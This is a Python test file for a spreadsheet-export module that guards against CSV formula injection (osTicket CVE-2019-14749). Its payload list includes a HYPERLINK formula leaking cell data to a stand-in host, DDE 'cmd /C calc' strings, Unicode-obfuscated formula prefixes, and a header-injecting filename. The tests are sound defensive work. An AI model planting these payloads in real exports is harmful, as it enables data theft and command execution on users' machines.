"""Class 19: a cell that a spreadsheet would work out. osTicket CVE-2019-14749."""

import csv
import io
from decimal import Decimal

import pytest
from hypothesis import given as tried_with
from hypothesis import strategies as st

from ombud.web import sheets

FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "\u200b=1+1",
    "\ufeff=1+1",
    "\u00a0=1+1",
    "\uff1d1+1",
    "\uff0b1",
    "\uff0d1",
    "\uff20SUM(1)",
    "\ufe661",
    "\u22121",
    "'=1+1",
    "''@x",
]


@pytest.mark.parametrize("text", FORMULAS)
def test_cve_2019_14749_a_formula_in_an_export_is_only_text(text):
    cell = sheets.neutral(text)
    assert cell == f"'{text}"
    assert sheets.as_written(cell) == text


@pytest.mark.parametrize(
    "text", ["", "Anna", "it's = so", "'tis", "1-2", "a@b.example"]
)
def test_what_is_no_formula_stays_as_it_is(text):
    assert sheets.neutral(text) == text
    assert sheets.as_written(text) == text


@tried_with(st.text())
def test_every_text_comes_back_and_none_is_a_formula(text):
    cell = sheets.neutral(text)
    assert sheets.as_written(cell) == text
    assert not cell.lstrip().startswith(("=", "+", "-", "@"))


def test_a_sheet_survives_commas_quotes_and_line_breaks():
    rows = [['a,"b"\r\nc', 7, Decimal("-5.00"), None, "=1"]]
    answer = sheets.as_sheet('x"\r\nSet-Cookie: a=b/..', ["Ω", "=n"], rows)
    text = b"".join(answer.streaming_content).decode("utf-8-sig")

    read = list(csv.reader(io.StringIO(text, newline="")))
    assert read == [["Ω", "'=n"], ['a,"b"\r\nc', "7", "-5.00", "", "'=1"]]
    assert (
        answer["Content-Disposition"] == 'attachment; filename="x-Set-Cookie-a-b.csv"'
    )
    assert answer["X-Content-Type-Options"] == "nosniff"
